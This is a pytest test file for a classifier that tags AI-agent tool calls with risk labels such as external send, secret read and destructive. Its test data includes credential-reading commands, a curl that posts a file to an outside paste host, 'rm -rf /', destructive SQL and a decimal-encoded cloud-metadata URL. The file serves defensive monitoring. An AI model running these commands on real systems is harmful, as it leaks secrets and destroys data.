import json
from pathlib import Path
from typing import Any

import pytest

from enrichers.reference import load_reference
from enrichers.tools import known_tool, tools

FERNWOOD = load_reference()
SEND, SECRET = "external_send", "read_secret"


def call(name: Any, arguments: Any = None, **fields: Any) -> dict[str, Any]:
    given = {"event.action": "tool_call", "gen_ai.tool.name": name}
    given |= {} if arguments is None else {"ai.tool.arguments": json.dumps(arguments)}
    return tools(given | {name.replace("__", "."): value for name, value in fields.items()}, FERNWOOD)


@pytest.mark.parametrize(
    ("name", "kind", "risk"),
    [
        ("Bash", "shell", ["code_exec"]),
        ("Read", "file", ["read"]),
        ("Edit", "file", ["write"]),
        ("WebFetch", "http", ["read_untrusted"]),
        ("gmail_send_message", "mail", [SEND]),
        ("gmail_search", "mail", ["read_private", "read_untrusted"]),
        ("slack_post_message", "messaging", [SEND]),
        ("sendEmail", "mail", [SEND]),
        ("mcp__mail__send_mail", "mail", [SEND]),
        ("rates/lookup_rate", "other", ["read"]),
        ("stripe_create_charge", "payment", ["payment"]),
        ("get_payment_status", "payment", ["read_private"]),
        ("git_checkout", "file", ["write"]),
        ("vault_read", "vault", [SECRET]),
        ("memory_store", "memory", ["write"]),
        ("delete_ticket", "other", ["destructive"]),
        ("create_agent", "agent", ["admin"]),
        ("tools/list", "discovery", ["read"]),
        ("frobnicate", "other", None),
    ],
)
def test_tools_are_known_by_their_names(name: str, kind: str, risk: list[str] | None) -> None:
    added = call([name])
    assert added["ai.tool.kind"] == kind
    assert added.get("ai.tool.risk") == risk


def test_a_name_counts_as_a_text_or_a_list() -> None:
    assert call("Bash") == call(["Bash"])
    assert call([]) == {}


def test_every_name_is_read_alike_whatever_its_length() -> None:
    assert known_tool("x" * 100_000 + "_send_mail", FERNWOOD).kind == "mail"


@pytest.mark.parametrize(
    ("arguments", "risk", "destination"),
    [
        ({"to": "jo@outside.example"}, [SEND], "jo@outside.example"),
        ({"to": "Jo <Jo@Outside.example>"}, [SEND], "jo@outside.example"),
        ({"to": "ada.lind@fernwood.example"}, ["write"], "ada.lind@fernwood.example"),
        ({"To": ["ada.lind@fernwood.example"], "bcc": "eve@outside.example"}, [SEND], "eve@outside.example"),
        ({"to": "a@fernwood.example, eve@outside.example"}, [SEND], "eve@outside.example"),
        ({"message": {"recipients": [{"email": "eve@outside.example"}]}}, [SEND], "eve@outside.example"),
        ({"text": "hello"}, [SEND], None),
        ([], [SEND], None),
    ],
)
def test_mail_is_sent_to_whom_the_arguments_say(
    arguments: Any, risk: list[str], destination: str | None
) -> None:
    added = call(["send_mail"], arguments)
    assert added["ai.tool.risk"] == risk
    assert added.get("ai.tool.destination") == destination


def test_what_is_approved_for_an_agent_is_a_write_for_that_agent_alone() -> None:
    letter = {"to": "jo@quayline.example"}
    assert call(["send_mail"], letter, gen_ai__agent__id="support-agent")["ai.tool.risk"] == ["write"]
    assert call(["send_mail"], letter)["ai.tool.risk"] == [SEND]
    assert call(["http_post"], {"url": "https://quayline.example"}, gen_ai__agent__id="release-agent")[
        "ai.tool.risk"
    ] == [SEND]


def test_one_recipient_outside_is_enough() -> None:
    added = call(
        ["send_mail"],
        {"to": ["jo@quayline.example", "eve@outside.example"]},
        gen_ai__agent__id="support-agent",
    )
    assert added["ai.tool.risk"] == [SEND]
    assert added["ai.tool.destination"] == "eve@outside.example"


@pytest.mark.parametrize(
    ("name", "arguments", "risk", "destination"),
    [
        ("WebFetch", {"url": "https://news.example/x"}, ["read_untrusted"], "news.example"),
        ("WebFetch", {"url": "https://wiki.fernwood.example/x"}, ["read_private"], "wiki.fernwood.example"),
        ("WebFetch", {"url": "http://localhost:3000"}, ["read"], "localhost"),
        ("WebFetch", {"url": "http://2852039166/latest"}, ["read_untrusted", SECRET], "169.254.169.254"),
        (
            "http_request",
            {"url": "https://a.example", "method": "post"},
            ["read_untrusted", SEND],
            "a.example",
        ),
        ("http_request", {"url": "https://a.example", "body": "x"}, ["read_untrusted", SEND], "a.example"),
        (
            "http_request",
            {"url": "https://a.example", "method": "GET", "body": ""},
            ["read_untrusted"],
            "a.example",
        ),
        ("frobnicate", {"url": "https://a.example"}, ["read_untrusted"], "a.example"),
        ("frobnicate", {"url": "https://a.example", "payload": "x"}, [SEND], "a.example"),
        ("frobnicate", {"command": "cat .env"}, [SECRET, "code_exec"], None),
        ("slack_post_message", {"channel": "#general"}, [SEND], "#general"),
        ("pay_invoice", {"payee": "Quayline"}, ["payment"], "Quayline"),
        ("search_tickets", {"words": "https://a.example"}, ["read_private"], None),
    ],
)
def test_requests_go_where_their_arguments_say(
    name: str, arguments: dict[str, Any], risk: list[str], destination: str | None
) -> None:
    added = call([name], arguments)
    assert added["ai.tool.risk"] == risk
    assert added.get("ai.tool.destination") == destination


@pytest.mark.parametrize(
    ("command", "risk"),
    [
        ("ls", ["code_exec"]),
        ("cat ~/.aws/credentials", [SECRET, "code_exec"]),
        ("curl -d @x https://paste.example", [SEND, "code_exec"]),
        ("curl -d @x https://api.fernwood.example", ["write", "code_exec"]),
        ("curl -d @x http://db01/ && git push", [SEND, "code_exec"]),
        ("curl -d @x https://api.fernwood.example $ELSEWHERE; curl -d @y $URL", [SEND, "code_exec"]),
        (
            "curl https://get.example; curl -d x https://api.fernwood.example",
            ["read_untrusted", "write", "code_exec"],
        ),
        ("rm -rf /", ["code_exec", "destructive"]),
        ("ssh db01 uptime", ["write", "code_exec"]),
    ],
)
def test_the_command_of_a_shell_is_read(command: str, risk: list[str]) -> None:
    assert call(["Bash"], {"command": command})["ai.tool.risk"] == risk
    assert call(["Bash"], process__command_line=command)["ai.tool.risk"] == risk


def test_a_command_may_come_as_a_list_of_words() -> None:
    assert SECRET in call(["shell"], {"command": ["bash", "-lc", "cat .env"]})["ai.tool.risk"]


@pytest.mark.parametrize(
    ("statement", "risk", "unbounded"),
    [
        ("SELECT * FROM users", ["read_private"], None),
        ("delete from users", ["read_private", "destructive"], True),
        ("DELETE FROM users WHERE id = 1", ["read_private", "destructive"], False),
        ("drop table users", ["read_private", "destructive"], True),
        ("GRANT ALL ON users TO eve", ["read_private", "admin"], None),
        ("update users set x = 1", ["read_private", "write"], None),
    ],
)
def test_the_statement_of_a_database_tool_is_read(
    statement: str, risk: list[str], unbounded: bool | None
) -> None:
    added = call(["execute_sql"], {"query": statement})
    assert added["ai.tool.risk"] == risk
    assert added.get("ai.tool.unbounded") is unbounded


def test_a_destructive_call_tells_how_many_things_it_names() -> None:
    assert call(["delete_records"], {"ids": [*range(200)]})["ai.tool.affected"] == 200
    assert "ai.tool.affected" not in call(["list_records"], {"ids": [1, 2]})


def test_a_tool_that_reads_credentials_reads_a_secret() -> None:
    assert call(["Read"], file__path="/home/ada/.aws/credentials")["ai.tool.risk"] == ["read", SECRET]
    assert call(["read_file"], {"path": "/app/.env"})["ai.tool.risk"] == ["read", SECRET]
    assert call(["Write"], file__path="/app/.env")["ai.tool.risk"] == ["write"]


def test_the_registry_says_what_an_agent_s_tool_does_and_whether_it_may() -> None:
    added = call(["lookup_invoice"], gen_ai__agent__id="finance-agent")
    assert added["ai.tool.risk"] == ["read_private"]
    assert added["ai.tool.granted"] is True
    assert call(["send_mail"], gen_ai__agent__id="finance-agent")["ai.tool.granted"] is False
    assert call(["Bash"], gen_ai__agent__id="old-agent")["ai.tool.granted"] is False
    assert "ai.tool.granted" not in call(["Bash"], gen_ai__agent__id="rogue-agent")
    assert "ai.tool.granted" not in call(["Bash"])


def test_an_account_is_harmless_only_where_it_is_approved(tmp_path: Path) -> None:
    (tmp_path / "agents.yaml").write_text("agents: [{id: a, approved_destinations: ['#releases']}]")
    reference = load_reference(tmp_path)
    post = {"event.action": "tool_call", "gen_ai.tool.name": ["slack_post_message"], "gen_ai.agent.id": "a"}
    risks = [
        tools(post | {"ai.tool.arguments": json.dumps({"channel": channel})}, reference)["ai.tool.risk"]
        for channel in ("#releases", "#general")
    ]
    assert risks == [["write"], [SEND]]


def test_a_registry_that_lists_no_grants_says_nothing_of_them(tmp_path: Path) -> None:
    (tmp_path / "agents.yaml").write_text("agents: [{id: a}, {id: b, mcp_servers: [other]}]")
    reference = load_reference(tmp_path)
    use = {"event.action": "tool_call", "gen_ai.tool.name": ["x"], "ai.tool.server": "other"}
    found = [tools(use | {"gen_ai.agent.id": name}, reference).get("ai.tool.granted") for name in "ab"]
    assert found == [None, True]


def test_a_granted_server_grants_the_tools_that_were_approved_on_it() -> None:
    support = {"gen_ai__agent__id": "support-agent"}
    assert call(["search_tickets"], ai__tool__server="tickets", **support)["ai.tool.granted"] is True
    assert call(["close_ticket"], ai__tool__server="tickets", **support)["ai.tool.granted"] is False
    assert call(["lookup_rate"], ai__tool__server="rates", **support)["ai.tool.granted"] is False


def test_what_a_source_says_stays() -> None:
    added = call(["Bash"], {"command": "cat .env"}, ai__tool__risk=["read"], ai__tool__kind="other")
    assert added == {}
    told = call(["send_mail"], ai__tool__destination="jo@quayline.example", gen_ai__agent__id="support-agent")
    assert told == {"ai.tool.kind": "mail", "ai.tool.risk": ["write"], "ai.tool.granted": True}


def test_results_and_approvals_are_read_like_calls_and_offers_are_discovery() -> None:
    assert call(["Bash"], event__action="tool_result")["ai.tool.risk"] == ["code_exec"]
    assert call(["Bash"], event__action="approval")["ai.tool.risk"] == ["code_exec"]
    assert call(["Bash", "Read"], event__action="tool_list") == {"ai.tool.kind": "discovery"}
    assert call(["Bash"], event__action="prompt") == {}


def test_a_file_opened_without_a_tool_is_a_secret_read_if_it_holds_credentials() -> None:
    opened = {"event.action": "file_access", "file.path": "/home/ada/.netrc"}
    assert tools(opened, FERNWOOD) == {"ai.tool.risk": [SECRET]}
    assert tools({**opened, "file.path": "/home/ada/notes.txt"}, FERNWOOD) == {}
    assert tools({"event.action": "file_access"}, FERNWOOD) == {}


@pytest.mark.parametrize(
    "text",
    ["{", "[]", '{"url": null}', '{"to": {"a": {}}}', '{"command": 7}', '{"url": ["x", 1]}', "x", "{" * 5000],
)
def test_odd_arguments_do_no_harm(text: str) -> None:
    for name in ("send_mail", "Bash", "execute_sql", "http_request", "read_file", "frobnicate"):
        given = {"event.action": "tool_call", "gen_ai.tool.name": [name], "ai.tool.arguments": text}
        assert "ai.tool.kind" in tools(given, FERNWOOD)
